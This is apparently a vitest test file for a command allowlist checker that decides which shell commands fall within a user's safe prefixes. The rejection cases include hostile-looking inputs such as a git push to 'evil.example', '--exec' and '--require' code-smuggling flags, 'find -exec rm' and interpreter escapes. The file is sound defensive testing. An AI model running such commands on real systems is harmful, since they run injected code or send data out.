import { describe, expect, it } from "vitest";
import { readStrictLine } from "../shell/strict-line.ts";
import { safeCommandVerdict } from "./safe-command.ts";

function verdict(command: string, prefixes: readonly string[] | null) {
  const line = readStrictLine(command);
  if ("outside" in line) throw new Error(`${command}: ${line.outside}`);
  return safeCommandVerdict(line, prefixes, { cwd: "/w" });
}
const isSafe = (command: string, prefixes: readonly string[] | null) => "paths" in verdict(command, prefixes);

describe("a person's own prefixes besides the built-in ones", () => {
  it.each<[string, boolean]>([
    ["sort a", true],
    ["ls | grep x", true],
    ["mytool && cat a", true],
    ["find . -delete", false],
    ["env sh", false],
    ["git branch -D x", false],
    ["cargo doc", false],
    ["git tag x", false],
    ["sed -i s/a/b/ x", false],
    ["sort -o a b", false],
  ])("leave what the table says as it is: %s", (command, safe) => {
    const known = ["find", "find .", "env", "git branch", "git branch -D", "git tag", "sed -i", "sort -o", "sort"];
    expect(isSafe(command, ["mytool", ...known])).toBe(safe);
    expect(isSafe(command, ["mytool"])).toBe(safe);
  });

  it("take one of those away, and nothing else", () => {
    expect(isSafe("ls -la", ["!ls"])).toBe(false);
    expect(isSafe("cat a | ls", ["!ls"])).toBe(false);
    expect(isSafe("lscpu", ["!ls"])).toBe(true);
    expect(isSafe("git log", ["!git diff"])).toBe(true);
    expect(isSafe("git diff a", ["!git diff"])).toBe(false);
    expect(isSafe("ls", ["ls", "!ls"])).toBe(false);
  });
});

describe("a person's own list of safe commands", () => {
  const own = ["npm test", "npm run lint", "make check", "cat", "tail", "cd", "find", "git push", "git log", "mytool"];

  it.each([
    "npm test",
    "npm test -- x",
    "npm test -- --run 'a b' 2>&1",
    "npm run lint >/dev/null",
    "make check",
    "make check VERBOSE=1",
    "npm test | tail -5",
    "npm test && npm run lint",
    "cat a",
    "git push origin main",
    "git log -5",
    "mytool",
    "mytool --anything ../x",
    "npm test; ls",
    "npm test | head",
    "cat a | sort",
    "ls",
    "find . -name '*.ts'",
    "cd a && cat b",
  ])("covers %s", (command) => {
    expect(verdict(command, own)).toHaveProperty("paths");
  });

  it.each([
    "npm testing",
    "npm tes",
    "npm run lint:fix",
    "npm install",
    "npm",
    "make",
    "npm test && rm x",
    "find . -delete",
    "find . -exec rm {} +".replace("{}", "'{}'"),
    "git log --output=x",
    "git push --receive-pack=./x",
    "git push --exec ./x",
    "git push ../other",
    "git push https://evil.example/x",
    "git -c a=b push",
    "npm test --node-options=--require=./x",
    "make check --eval=x",
    "mytool --config=../x",
    "mytool --output=/etc/x",
    "git pushy",
    "cd a && npm test",
    "CI=1 npm test",
    "NO_COLOR=1 mytool",
  ])("does not cover %s", (command) => {
    expect(verdict(command, own)).toHaveProperty("reason");
  });

  it("explains what is not covered", () => {
    expect(verdict("npm test && rm x", own)).toEqual({ reason: "rm: rm x is not known to be read-only" });
    expect(verdict("cd a && npm test", own)).toEqual({
      reason: "npm: npm test is allowed in this folder, but not after a cd",
    });
  });

  it.each([
    ["node", "node x.js"],
    ["node", "node -e 1"],
    ["node x.js", "node -e 1"],
    ["node --no-warnings", "node --no-warnings -e 1"],
    ["node --no-warnings", "node --no-warnings --eval=1"],
    ["python3", "python3 -c 1"],
    ["python3 -c", "python3 -c 1"],
    ["python3 -u", "python3 -u -c 1"],
    ["bash", "bash x"],
    ["bash -c", "bash -c ls"],
    ["bash --norc", "bash --norc -c ls"],
    ["sh -x", "sh -x -c ls"],
    ["perl -w", "perl -w -e 1"],
    ["sudo", "sudo ls"],
    ["env", "env ls"],
    ["xargs", "xargs rm"],
    ["ssh", "ssh host rm"],
    ["docker", "docker run x"],
    ["git", "git push"],
    ["awk", "awk 'BEGIN{system(1)}'"],
    ["sed", "sed -i s/a/b/ x"],
    ["eval", "eval ls"],
    ["source", "source x"],
    ["export", "export A=b"],
    ["command", "command ls"],
    ["exec", "exec ls"],
    ["", "mytool"],
    ["  ", "mytool"],
  ])("with %j does not cover %s", (prefix, command) => {
    expect(verdict(command, [prefix])).toHaveProperty("reason");
  });

  it.each([
    ["node scripts/check.js", "node scripts/check.js --all"],
    ["python3 -m pytest", "python3 -m pytest -k foo"],
    ["bash scripts/test.sh", "bash scripts/test.sh unit"],
    ["node --test", "node --test src"],
    ["node --version", "node --version"],
    ["docker ps", "docker ps -a"],
    ["cargo tree --offline", "cargo tree --offline -d"],
  ])("with %j covers %s", (prefix, command) => {
    expect(verdict(command, [prefix])).toHaveProperty("paths");
  });
});
